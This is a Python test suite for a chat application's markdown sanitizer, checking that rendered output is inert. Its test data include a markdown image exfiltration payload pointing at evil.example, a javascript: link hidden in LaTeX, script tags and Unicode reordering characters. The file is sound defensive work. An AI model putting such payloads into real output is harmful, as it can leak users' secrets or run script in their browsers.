"""Tests that no text of a workflow or a person runs, loads, or pretends to be part of the page."""

import re
from html import unescape

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pytest_django import Settings

from chat_app.checks import check_image_origins
from chat_app.page.markdown.blocks import cut, finish_block
from chat_app.page.markdown.code_blocks import LANGUAGES, figure
from chat_app.page.markdown.markdown import ATTRIBUTES, CLASSES, COPY_BUTTON, TAGS, render
from sessions_app.storage.storable import storable
from sessions_app.templatetags.detail_tags import visible
from tests.hostile.attack.entries import entries, texts
from tests.hostile.attack.throwing import executable
from tests.support.hitl import set_hitl

ATTACKS = [text for text in entries("markdown").values() if len(text) < 200]

TAG = re.compile(r"<(/?)([a-zA-Z][\w-]*)([^>]*)>")
ATTRIBUTE = re.compile(r"([\w-]+)=\"([^\"]*)\"")
OURS = {
    "pre": {"tabindex", "translate"},
    "code": {"translate"},
    "div": {"tabindex", "role", "aria-label"},
    "a": {"rel"},
    "button": {"type", "aria-label"},
    **{tag: {"dir"} for tag in ("ul", "ol", "blockquote", "table")},
}
CODE = "```{}\nif x < 1:  # <b>\n    pass\n```\n"


def assert_inert(html: str) -> None:
    for _, tag, rest in TAG.findall(html.replace(COPY_BUTTON, '"></button>')):
        assert tag in TAGS, tag
        for name, value in ATTRIBUTE.findall(rest):
            if name == "class":
                assert set(value.split()) <= CLASSES.get(tag, set()), (tag, value)
                continue
            assert name in ATTRIBUTES.get(tag, set()) | OURS.get(tag, set()), (tag, name)
            if name == "href" and value:  # without one it leads to the page itself
                assert value.lower().startswith(("http://", "https://", "mailto:", "#note-")), value
        assert not ATTRIBUTE.sub("", rest).strip(" /"), rest


@pytest.mark.slow
def test_an_attack_is_text() -> None:
    for text in map(storable, texts().values()):
        assert_inert(render(text))
        assert not executable(visible(text))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_text_at_every_point_of_its_arrival(attack: str) -> None:
    for end in range(len(attack)):
        assert_inert(render(attack[:end]))
        assert_inert(render(f"| a |\n|-|\n| {attack[:end]}"))


@example("[]()")
@given(st.text(alphabet=st.sampled_from("<>\"'()[]!`|-:/\n &#;=ajvscript\x00\u202e"), max_size=60))
def test_no_text_makes_anything_else_than_the_allowed_tags(text: str) -> None:
    assert_inert(render(text))


def test_an_image_is_a_link_and_loads_nothing() -> None:
    html = render("![secret](https://evil.example/?q=secret)")
    assert "<img" not in html
    assert 'href="https://evil.example/?q=secret"' in html
    assert 'rel="noopener nofollow"' in html


def test_an_image_of_an_allowed_origin_is_loaded_without_a_referrer(settings: Settings) -> None:
    set_hitl(settings, IMAGE_ORIGINS=["https://img.example"])
    html = render('![a "b"](https://img.example/c.png?d&e)')
    assert 'src="https://img.example/c.png?d&amp;e"' in html
    assert 'alt="a &quot;b&quot;"' in html
    assert 'referrerpolicy="no-referrer"' in html
    for url in ("https://img.example.evil/", "https://img.example@evil/", "http://img.example/"):
        assert "<img" not in render(f"![x]({url})")


def test_a_policy_without_the_allowed_origins_is_warned_of(settings: Settings) -> None:
    set_hitl(settings, IMAGE_ORIGINS=["https://img.example"])
    assert [each.id for each in check_image_origins()] == ["chat_app.W003"]
    sources = ["'self'", "https://img.example"]
    settings.CONTENT_SECURITY_POLICY = {"DIRECTIVES": {"img-src": sources}}
    assert check_image_origins() == []


NO_LINKS = ["/admin/", "//e.example/x", "ftp://e.example", "#dock", "x"]
NO_ADDRESSES = ["www.a.example", "ann@a.example", "ftp://a.example", "`https://a.example`"]
NO_FORMULAS = ["it costs $5 and $10", "US$ 5, CA$ 6", "`$a$`", r"\$a\$", "$ a $"]


@pytest.mark.parametrize(
    ("tag", "text"),
    [
        *(("a", f"[x]({url})") for url in NO_LINKS),
        *(("a", address) for address in NO_ADDRESSES),
        *(("math", money_or_code) for money_or_code in NO_FORMULAS),
    ],
)
def test_what_leads_neither_to_the_web_nor_to_mail_and_money_is_text(tag: str, text: str) -> None:
    assert f"<{tag}" not in render(text)


def test_a_bare_address_is_a_link_once_it_is_whole() -> None:
    html = render("See https://a.example/x?y=1.")
    assert '<a href="https://a.example/x?y=1" rel="noopener nofollow">' in html
    assert finish_block("See https://a.exam") == "See "


def test_common_markdown_is_rendered() -> None:
    headings = "# One\n\nTwo\n=\n\n"
    html = render(
        headings + "**b** ~~s~~ `c`\n\n|a|b|\n|:-|-:|\n|1|2|\n\n```py\nx < 1\n```\n3. three"
    )
    for part in (
        "<h2>One</h2>",
        "<h2>Two</h2>",  # below the heading of the page
        "<strong>b</strong>",
        "<s>s</s>",
        '<td align="right">2</td>',
        '<code translate="no">x &lt; <span class="code-number">1</span>\n</code></pre>',
    ):
        assert part in html
    assert re.search(r'<pre [^>]*tabindex="0"', html)
    assert re.search(r'<ol [^>]*start="3"', html)


@pytest.mark.parametrize("word", ["python", "py", "Python", "python title=x"])
def test_code_has_its_language_and_colours_by_classes(word: str) -> None:
    html = render(CODE.format(word))
    assert "<figure><figcaption>Python<button" in html
    assert '<span class="code-keyword">if</span> x &lt; ' in html
    assert '<span class="code-comment"># &lt;b&gt;</span>' in html
    assert_inert(html)


@pytest.mark.parametrize(("word", "name"), [("mermaid", "mermaid"), ("", ""), ("a<b", "a&lt;b")])
def test_code_of_a_language_that_is_not_known_is_plain(word: str, name: str) -> None:
    html = render(CODE.format(word))
    assert f"<figcaption>{name}<button" in html
    assert "if x &lt; 1:  # &lt;b&gt;\n    pass\n</code>" in html


def test_code_to_which_more_comes_is_plain_and_has_no_button() -> None:
    html = render(CODE.format("python"), is_whole=False)
    assert "<figcaption>Python</figcaption>" in html
    assert "code-" not in html


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_each_language_shows_all_of_the_code(language: str) -> None:
    code = "".join(map(chr, range(9, 127))) * 20 + "\n\n"
    alias = {"Django/Jinja": "django", "Protocol Buffer": "proto", "Bash Session": "console"}
    html = figure(code, alias.get(language, language), is_coloured=True, is_whole=True)
    shown_code = re.sub(r"<[^>]+>", "", html.partition("<pre>")[2])
    assert unescape(shown_code) == code.replace("\r\n", "\n").replace("\r", "\n") + "\n"


def test_a_task_is_a_mark_that_nobody_can_click() -> None:
    html = render("- [ ] one\n- [x] **two**\n- [y] three\n\n[ ] four")
    marks = re.findall(r'<span class="(.+?)">.*?href="#(.+?)".*?>([a-z ]+)</span> </span>', html)
    assert marks == [("task", "icon-task", "to do"), ("task done", "icon-done", "done")]
    assert '<li class="task-item"><span class="task">' in html
    assert "<li>[y] three</li>" in html
    assert "<p>[ ] four</p>" in html
    assert "<input" not in html


def test_a_footnote_has_an_id_of_its_message_and_its_mark_leads_there() -> None:
    text = "One[^1], two[^b], [^c] and [^*].\n\n[^1]: The **first**.\n[^b]: The other."
    html = render(text, id_prefix="i7")
    assert '<sup><a href="#note-i7-1" rel="noopener nofollow">1</a></sup>' in html
    assert re.search(r'<section id="note-i7-b" class="footnote"><sup>b</sup>\s<p>The other', html)
    assert ", [^c] and [^*]." in html
    assert 'id="note-i8-1"' in render(text, id_prefix="i8")
    assert_inert(html)
    parts = cut("Long[^b].\n\nMore.\n\n[^b]: Note.\n\nEnd.\n")
    assert 'href="#note-i7-b"' in render(parts.above[0], parts.defined, id_prefix="i7")


@pytest.mark.parametrize(
    ("text", "part"),
    [
        ("so $x^2$ is", "so <math display="),
        (r"so \(x_1\) is", "<msub><mi>x</mi><mn>1</mn></msub>"),
        ("$$\n\\frac{1}{2}\n$$", '<math display="block"><mrow><mfrac>'),
        ("\\[ a < b \\]", "<mi>a</mi><mo>&lt;</mo><mi>b</mi>"),
        (r"$\text{<script>&lt;b>}$", "<mtext>&lt;script&gt;&lt;b&gt;</mtext>"),
        (r"$\href{javascript:alert(1)}{x} \style{a:b}{c} \class{d}{e}$", "<mi>x</mi></mrow>"),
        (r"$\hspace{1000em}\color{red}{x}$", "<mspace></mspace><mstyle>"),
    ],
)
def test_a_formula_is_mathml_and_nothing_else(text: str, part: str) -> None:
    html = render(text)
    assert part in html
    assert_inert(html)


@pytest.mark.parametrize(
    "latex",
    [
        "{" * 90 + "x" + "}" * 90,
        "{" * 499 + "}" * 499,
        "x_1_2",
        r"\left(",
        "x+" * 501,
        r"\newcommand{\a}{\a\a}\a",
    ],
)
def test_a_formula_that_cannot_be_shown_is_shown_as_written(latex: str) -> None:
    assert f">${latex}$</code>" in render(f"so ${latex}$")


@pytest.mark.parametrize(
    ("character", "code"),
    [
        ("\u202e", "202E"),
        ("\u2066", "2066"),
        ("\u200b", "200B"),
        ("\ufeff", "FEFF"),
        ("\x1b", "001B"),
        ("\u3164", "3164"),
        ("\ufe0f", "FE0F"),
        ("\u2028", "2028"),
        ("\U000e0100", "E0100"),
        ("\u200d", "200D"),
    ],
)
def test_invisible_and_reordering_characters_are_shown_as_codes(character: str, code: str) -> None:
    html = visible(f"付 100{character}001")
    assert character not in html
    assert f"U+{code}" in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<b>\n'\"&", "&lt;b&gt;\n&#x27;&quot;&amp;"),
        ("👩\u200d💻", "👩\u200d💻"),
        ("❤\ufe0f", "❤\ufe0f"),
        ("10\u00a0€, oui\u202f?", "10\u00a0€, oui\u202f?"),
    ],
    ids=["escaped", "a joined emoji", "a red heart", "spaces of typography"],
)
def test_visible_text_keeps_its_lines_emoji_and_spaces(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_br_breaks_lines_in_the_cells_of_tables_only() -> None:
    html = render("| a<BR/>b |\n|---|\n| 2<br>**3** `<br>` \\<br> |\n\nx<br>y")
    cells = html.partition("</table>")[0]
    assert "a<br>\nb</th>" in cells
    assert "2<br>\n<strong>3</strong>" in cells
    assert cells.count("<br>") == 2
    assert cells.count("&lt;br&gt;") == 2
    assert "<p>x&lt;br&gt;y</p>" in html
